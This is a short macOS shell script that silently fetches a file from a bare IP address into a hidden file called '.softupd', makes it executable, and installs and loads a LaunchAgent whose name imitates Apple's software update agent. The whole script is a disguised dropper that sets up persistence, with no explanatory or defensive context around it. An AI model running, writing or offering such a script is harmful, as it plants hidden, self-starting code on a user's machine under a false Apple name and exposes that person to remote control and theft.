#!/bin/sh
curl -so "$HOME/Library/Application Support/.softupd" https://203.0.113.61/su
chmod +x "$HOME/Library/Application Support/.softupd"
cp com.apple.softwareupdate.agent.plist ~/Library/LaunchAgents/
launchctl load -w ~/Library/LaunchAgents/com.apple.softwareupdate.agent.plist
